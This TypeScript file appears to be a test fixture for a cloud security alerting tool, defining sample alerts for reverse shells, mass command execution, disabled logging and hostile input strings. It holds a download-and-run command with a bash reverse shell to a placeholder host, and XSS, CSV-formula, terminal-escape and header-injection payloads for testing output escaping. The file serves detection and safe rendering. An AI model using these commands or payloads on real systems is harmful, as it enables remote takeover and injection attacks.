import type { Alert } from '../../../shared/model/alert'
import type { RedactedAlert } from '../../../shared/model/redacted-alert'
import * as attack from '../../../shared/model/attack'
import { ACCOUNT, alertOf, finding, SUBSCRIPTION } from './alert-fixture'

const TENANT = '00000000-0000-0000-0000-000000000002'
const VM = `/subscriptions/${SUBSCRIPTION}/resourcegroups/rg-shop/providers/microsoft.compute/virtualmachines/web-1`

const id = (place: number): string => `${place}`.padStart(32, '0')

const machines = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, place) => `i-0123456789abcde${place.toString(16).padStart(2, '0')}`)

const azure = (changes: Partial<Alert>): Partial<Alert> => ({
  cloud: 'azure',
  account: SUBSCRIPTION,
  tenant: TENANT,
  region: null,
  resourceGroup: 'rg-shop',
  operation: 'microsoft.compute/virtualmachines/runcommand/action',
  actor: {
    key: 'azure:00000000-0000-0000-0000-000000000003',
    kind: 'user',
    display: 'alice@example.com',
    session: null,
  },
  source: {
    kind: 'address',
    ip: '198.51.100.20',
    asn: 64501,
    organization: 'Example Mobile',
    network: 'other',
    userAgent: null,
  },
  targets: { kind: 'listed', ids: [VM], selectors: [], total: 1 },
  command: {
    document: 'RunShellScript',
    text: null,
    hash: null,
    hidden:
      'the Activity Log never carries the script of an action run command, and no call returns it; it is on the ' +
      'machine only',
  },
  links: [{ label: 'Resource', url: `https://portal.azure.com/#@${TENANT}/resource${VM}/overview` }],
  ...changes,
})

const SHELL =
  'set -e\ncurl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh\nbash /tmp/a.sh\n\tbash -i >& ' +
  '/dev/tcp/203.0.113.66/4444 0>&1\nhistory -c'

/** One alert of every sort that looks different, by a name that says what is special about it. */
export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
  'reverse shell on many machines': alertOf({
    id: id(1),
    severity: 'critical',
    risk: 99,
    source: {
      kind: 'address',
      ip: '198.51.100.66',
      asn: 64502,
      organization: 'Example Tor Exits',
      network: 'anonymiser',
      userAgent: 'Boto3/1.34.0 md/Botocore#1.34.0',
    },
    targets: { kind: 'listed', ids: machines(12), selectors: [], total: 12 },
    command: { document: 'AWS-RunShellScript', text: SHELL, hash: 'a'.repeat(64), hidden: null },
    findings: [
      finding(
        'cloud.suspicious-command',
        'critical',
        'the command text shows reverse shell, download and run',
        [
          {
            label: 'Reverse shell',
            value: 'bash -i >& /dev/tcp/203.0.113.66/4444 (a shell whose input and output are a network connection)',
          },
          {
            label: 'Download and run',
            value: 'curl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh (what was fetched is run)',
          },
        ],
        { attack: [attack.CLOUD_ADMINISTRATION_COMMAND, attack.COMMAND_AND_SCRIPTING_INTERPRETER] },
      ),
      finding(
        'cloud.mass-execution',
        'medium',
        'role/Deploy acted on 12 machines within 60 minutes, more than 3',
        [
          { label: 'Invocations', value: '1' },
          { label: 'Machines', value: machines(12).join(', ') },
          { label: 'Source addresses', value: '198.51.100.66' },
        ],
        { attack: [attack.CLOUD_ADMINISTRATION_COMMAND, attack.SOFTWARE_DEPLOYMENT_TOOLS] },
      ),
      finding('cloud.anonymised-source', 'high', 'role/Deploy called through a Tor or VPN network', [
        { label: 'Address', value: '198.51.100.66' },
        { label: 'Network', value: 'AS64502 Example Tor Exits' },
      ]),
      finding(
        'cloud.first-seen-caller-on-target',
        'low',
        'role/Deploy has not acted on 12 of these machines from this network within 7 days',
        [],
        { novelty: true },
      ),
    ],
    next: [
      "read the whole command in the provider's console",
      'ask the person behind the identity where they were',
      'isolate the machine when the command did what it looks like',
    ],
  }),
  'caller who is no administrator': alertOf({
    id: id(2),
    time: '2026-01-10T09:00:00.000Z',
    severity: 'high',
    risk: 73,
    actor: { key: `aws:${ACCOUNT}:user/mallory`, kind: 'user', display: 'user/mallory', session: null },
    operation: 'ssm:StartSession',
    command: { document: 'SSM-SessionManagerRunShell', text: null, hash: null, hidden: null },
    findings: [
      finding('cloud.caller-not-listed', 'high', 'user/mallory is none of the configured administrators', [
        { label: 'Administrators configured', value: '4' },
      ]),
    ],
  }),
  'denied call': alertOf({
    id: id(3),
    time: '2026-01-10T09:01:00.000Z',
    outcome: 'denied',
    actor: { key: `aws:${ACCOUNT}:root`, kind: 'root', display: 'root', session: null },
    command: { document: 'AWS-RunShellScript', text: null, hash: null, hidden: null },
  }),
  'machines chosen by tag': alertOf({
    id: id(4),
    time: '2026-01-11T10:00:00.000Z',
    actor: {
      key: 'aws:service/events.amazonaws.com',
      kind: 'service',
      display: 'service/events.amazonaws.com',
      session: null,
    },
    source: {
      kind: 'service',
      ip: 'events.amazonaws.com',
      asn: null,
      organization: null,
      network: 'unknown',
      userAgent: 'events.amazonaws.com',
    },
    targets: {
      kind: 'selected',
      ids: [],
      selectors: [{ kind: 'tag', key: 'tag:Env', values: ['prod', 'staging'] }],
      total: null,
    },
    findings: [
      finding(
        'cloud.broad-target-selector',
        'low',
        'service/events.amazonaws.com did not name the machines one by one, and did not limit how many machines ' +
          'run or fail at once',
        [
          { label: 'Selector', value: 'tag:Env=prod, staging' },
          { label: 'Concurrency', value: '100%: on all machines at once' },
        ],
        { routine: true },
      ),
    ],
    severity: 'low',
    risk: 21,
  }),
  'action run command in Azure': alertOf({
    ...azure({}),
    id: id(5),
    time: '2026-01-12T11:30:00.000Z',
    outcome: 'pending',
  }),
  'provider acting in a customer': alertOf({
    ...azure({
      operation: 'microsoft.compute/virtualmachines/runcommands/write',
      command: {
        document: null,
        text: 'Get-LocalUser | Out-File C:\\temp\\users.txt',
        hash: 'b'.repeat(64),
        hidden: null,
      },
      actor: {
        key: 'azure:00000000-0000-0000-0000-000000000004',
        kind: 'service-principal',
        display: 'partner-automation',
        session: null,
      },
      source: {
        kind: 'address',
        ip: '192.0.2.44',
        asn: 64503,
        organization: 'Example Hosting',
        network: 'hosting',
        userAgent: null,
      },
    }),
    id: id(6),
    time: '2026-01-12T12:00:00.000Z',
    severity: 'high',
    risk: 78,
    findings: [
      finding(
        'cloud.delegated-admin',
        'high',
        'partner-automation belongs to another tenant',
        [
          {
            label: 'Tenant of the caller',
            value:
              '00000000-0000-0000-0000-000000000009, the subscription belongs to 00000000-0000-0000-0000-000000000002',
          },
        ],
        { attack: [attack.CLOUD_ADMINISTRATION_COMMAND, attack.TRUSTED_RELATIONSHIP] },
      ),
      finding(
        'cloud.anonymised-source',
        'low',
        'partner-automation called from a hosting network that is new for it',
        [{ label: 'Network', value: 'AS64503 Example Hosting' }],
        { novelty: true },
      ),
    ],
  }),
  'runbook written and run': alertOf({
    ...azure({
      operation: 'microsoft.automation/automationaccounts/jobs/write',
      targets: {
        kind: 'listed',
        ids: [
          `/subscriptions/${SUBSCRIPTION}` +
            '/resourcegroups/rg-ops/providers/microsoft.automation/automationaccounts/aa-ops',
        ],
        selectors: [],
        total: 1,
      },
      command: {
        document: 'Rotate-Keys',
        text: null,
        hash: null,
        hidden: 'the Activity Log does not carry the text of the runbook; the job does',
      },
    }),
    id: id(7),
    time: '2026-01-13T08:00:00.000Z',
    findings: [
      finding(
        'azure.automation-runbook',
        'medium',
        'alice@example.com prepared a runbook and ran it within 60 minutes',
        [
          { label: '2026-01-13T07:55:00.000Z', value: 'draft content written: Rotate-Keys' },
          { label: '2026-01-13T08:00:00.000Z', value: 'job started' },
        ],
      ),
    ],
  }),
  'extension by a person': alertOf({
    ...azure({
      operation: 'microsoft.compute/virtualmachines/extensions/write',
      command: {
        document: 'Microsoft.Azure.Extensions/CustomScript',
        text: null,
        hash: null,
        hidden:
          'the Activity Log does not carry the settings of the extension; the extension resource does, except ' +
          'protected ones',
      },
    }),
    id: id(8),
    time: '2026-01-14T15:00:00.000Z',
    findings: [
      finding('azure.extension-deployment', 'medium', 'alice@example.com deployed an extension that runs scripts', [
        { label: 'Machine', value: VM },
      ]),
    ],
  }),
  'detector changed': alertOf({
    id: id(9),
    time: '2026-01-14T16:00:00.000Z',
    severity: 'high',
    risk: 73,
    actor: { key: `aws:${ACCOUNT}:user/mallory`, kind: 'user', display: 'user/mallory', session: null },
    operation: 'cloudtrail:StopLogging',
    targets: { kind: 'listed', ids: [`arn:aws:cloudtrail:eu-west-1:${ACCOUNT}:trail/main`], selectors: [], total: 1 },
    command: { document: null, text: null, hash: null, hidden: null },
    findings: [
      finding(
        'cloud.detector-tampering',
        'high',
        'user/mallory changed what Runwarden depends on',
        [{ label: 'Operation', value: 'cloudtrail:StopLogging' }],
        { attack: [attack.DISABLE_CLOUD_LOGS] },
      ),
    ],
    silence: null,
  }),
  'process nobody ordered': alertOf({
    id: id(10),
    time: '2026-01-15T05:00:00.000Z',
    operation: 'process:start',
    actor: { key: `aws:${ACCOUNT}:unknown`, kind: 'unknown', display: 'unknown', session: null },
    source: { kind: 'unknown', ip: null, asn: null, organization: null, network: 'unknown', userAgent: null },
    command: {
      document: null,
      text: '/bin/sh -c /var/lib/amazon/ssm/x/_script.sh',
      hash: 'c'.repeat(64),
      hidden: null,
    },
    findings: [
      finding(
        'cloud.unexpected-agent-child',
        'medium',
        'no command is known that explains a script on i-0123456789abcdef0',
        [{ label: 'Process', value: '/usr/bin/sh' }],
      ),
    ],
    links: [],
  }),
  'still learning': alertOf({
    id: id(11),
    time: '2026-01-15T06:00:00.000Z',
    severity: 'informational',
    risk: 0,
    learning: true,
    findings: [
      finding(
        'cloud.first-seen-caller',
        'informational',
        'role/Deploy has not used command operations here within 7 days',
        [],
        { novelty: true, learning: true },
      ),
    ],
  }),
  'silenced in part and degraded': alertOf({
    id: id(12),
    time: '2026-01-15T07:00:00.000Z',
    degraded: 'history could not be read',
    findings: [
      finding('cloud.broad-target-selector', 'medium', 'role/Deploy did not name the machines one by one'),
      finding('cloud.mass-execution', 'medium', 'role/Deploy acted on 40 machines within 60 minutes, more than 3', [], {
        suppressed: 'patch day, change 4711',
      }),
    ],
    targets: { kind: 'listed', ids: machines(50), selectors: [], total: 120 },
  }),
  'escalation after repeats': alertOf({
    id: id(13),
    time: '2026-01-15T08:00:00.000Z',
    kind: 'escalation',
    because: '10 repeats',
    repeats: 12,
  }),
  'update once confirmed': alertOf({
    id: id(1),
    time: '2026-01-15T09:00:00.000Z',
    kind: 'update',
    severity: 'critical',
    risk: 86,
    findings: [
      finding('cloud.suspicious-command', 'high', 'the command text shows a reverse shell'),
      finding('cloud.run-command-confirmed', 'informational', 'the command was seen to run on the machine'),
    ],
  }),
  'test of the way': alertOf({ id: id(14), time: '2026-01-15T10:00:00.000Z', kind: 'test' }),
  'digest of many': alertOf({
    id: id(15),
    time: '2026-01-15T11:00:00.000Z',
    kind: 'digest',
    title:
      '14 alerts rate-limited within the hour: First Seen Caller by role/Deploy; Broad Target Selector by user/mallory',
    repeats: 14,
    activities: Array.from({ length: 14 }, (_, place) => `00000000-0000-0000-0000-0000000000${place + 20}`),
    silence: null,
  }),
  'names in other scripts': alertOf({
    id: id(16),
    time: '2026-01-16T10:00:00.000Z',
    actor: {
      key: 'azure:00000000-0000-0000-0000-000000000005',
      kind: 'guest',
      display: 'Zo\u00eb \u0141ukasiewicz \u5c71\u7530\u592a\u90ce',
      session: null,
    },
  }),
  'hostile strings': alertOf({
    id: id(17),
    time: '2026-01-16T11:00:00.000Z',
    severity: 'high',
    risk: 73,
    actor: {
      key: `aws:${ACCOUNT}:role/<script>alert(1)</script>`,
      kind: 'role',
      display: 'x\u202egnp.exe\r\nSubject: [INFORMATIONAL] all is well',
      session: '<img src=x onerror=alert(1)>',
    },
    source: {
      kind: 'address',
      ip: '203.0.113.9',
      asn: 64504,
      organization: 'Example [click](https://evil.example/)',
      network: 'other',
      userAgent: '\u001b[2J\u001b[1;32mOK\u001b[0m https://evil.example/login www.evil.example',
    },
    targets: {
      kind: 'selected',
      ids: ['i-0123456789abcdef0'],
      selectors: [{ kind: 'tag', key: "=cmd|'/c calc'!A0", values: ['"><svg onload=alert(1)>', '<!channel>'] }],
      total: 1,
    },
    command: {
      document: '../../<b>AWS</b>',
      text:
        'echo "\u2066ok\u2069"\u2028Alert: none\n</pre><script>alert(1)</script>\n\u001b]8;;https://' +
        'evil.example\u0007click\u001b]8;;\u0007',
      hash: 'd'.repeat(64),
      hidden: null,
    },
    findings: [
      finding('cloud.caller-not-listed', 'high', 'x\u202egnp.exe\nis none of the configured administrators', [
        { label: '</dd><script>', value: '\\\\203.0.113.9\\share\\x.exe javascript:alert(1) \u200b\u00adhidden\u2060' },
      ]),
    ],
    links: [
      { label: 'Resource', url: 'javascript:alert(1)' },
      { label: '"><script>', url: 'https://portal.azure.com/#/resource"><script>alert(1)</script>' },
    ],
    silence: JSON.stringify({
      caller: 'role/\u202e<script>',
      document: 'https://evil.example/',
      until: '2026-02-09',
      reason: 'say why this is expected',
    }),
  }),
}
